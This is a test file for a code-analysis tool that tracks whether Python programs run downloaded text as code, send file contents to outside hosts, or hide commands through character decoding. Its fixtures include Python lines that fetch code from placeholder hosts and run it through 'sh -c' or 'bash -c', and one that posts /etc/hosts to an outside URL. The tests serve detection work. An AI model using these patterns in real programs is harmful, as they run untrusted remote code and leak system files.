import { describe, expect, it } from 'vitest';
import { concat, literal, tainted } from '../../../src/analysis/code/values.js';
import { py } from './support.js';

/** What an argument passed to a program is, and what a value computed from data still carries. */

describe('python execute: argv words a program receives as data', () => {
  it('a local script named by path gets fetched text as data, not code', async () => {
    const { of } = await py(
      [
        'import os, subprocess, requests',
        'HELPER = os.path.join(os.path.dirname(__file__), "../tagger/tag.sh")',
        'label = requests.post("https://labels.example-service.net/v1", json={"t": "x"}).json()["label"]',
        'subprocess.run([HELPER, "--label", label], check=False)',
        '',
      ].join('\n'),
    );
    const code = of('execute')[0]?.code;
    expect(code?.taints).not.toContain('download');
    expect(code?.text).toContain('--label');
  });

  it.each([
    ['an interpreter by path', '[os.path.join(VENV, "bin", "python3"), "-c", code]'],
    ['a runner by path', '["/usr/bin/env", "bash", "-c", code]'],
    ['a bare program name', '["sh", "-c", code]'],
  ])('%s runs its fetched words', async (_name, argv) => {
    const { of } = await py(
      [
        'import os, subprocess, urllib.request',
        'VENV = os.path.join(os.path.dirname(__file__), ".venv")',
        'code = urllib.request.urlopen("https://steps.example-boot.net/s").read().decode()',
        `subprocess.run(${argv})`,
        '',
      ].join('\n'),
    );
    const code = of('execute')[0]?.code;
    expect(code?.taints).toContain('download');
    expect(code?.from).toBe('https://steps.example-boot.net/s');
  });

  it('names unknown call results as shell parameters, so flags after two of them still parse', async () => {
    const { shell } = await py(
      [
        'import argparse, subprocess',
        'args = argparse.ArgumentParser().parse_args()',
        'subprocess.run(["codex", "exec", "--model", args.model, "-c", f"effort=\\"{args.effort}\\"", "--full-auto", "-"])',
        '',
      ].join('\n'),
    );
    expect(shell[0]).not.toContain('(…)');
    expect(shell[0]).toContain('--full-auto');
    expect(shell[0]).toMatch(/\$\{parse_args\}\.model/);
  });
});

describe('python values: what a computation keeps of its input', () => {
  it('a count of a file read from the event is a number, not the file', async () => {
    const { of } = await py(
      [
        'import json, sys, requests',
        'event = json.load(sys.stdin)',
        'lines = open(event["transcript_path"]).readlines()',
        'requests.post("https://usage.example-charts.net/v1", json={"turns": len(lines), "words": sum(len(l.split()) for l in lines)})',
        '',
      ].join('\n'),
    );
    expect(of('send')[0]?.data.taints).not.toContain('file');
  });

  it('sum with a list start joins lists: the data flows on', async () => {
    const { of } = await py(
      [
        'import requests',
        'rows = [open("/etc/hosts").readlines()]',
        'requests.post("https://usage.example-charts.net/v1", data=str(sum(rows, [])))',
        '',
      ].join('\n'),
    );
    expect(of('send')[0]?.data.taints).toContain('file');
  });

  it('chr() of a newline or quote in an f-string decodes nothing; spelled letters still do', async () => {
    const plain = await py('import os\nos.system(f"echo {chr(39)}a{chr(39)}{chr(10)}")\n');
    expect(plain.of('execute')[0]?.code.taints ?? []).not.toContain('decoded');
    const spelled = await py('import os\nos.system(chr(108) + chr(115) + chr(32) + "/")\n');
    expect(spelled.of('execute')[0]?.code.taints).toContain('decoded');
  });

  it("a downloaded part's origin names the download, not a file path beside it", () => {
    const path = tainted(literal('notes.json'), 'file', { from: '${sys.argv}[1]' });
    const reply = tainted(literal('label'), 'download', { from: 'https://labels.example-service.net/v1' });
    expect(concat([path, reply]).from).toBe('https://labels.example-service.net/v1');
    expect(concat([path, literal('x')]).from).toBe('${sys.argv}[1]');
  });
});
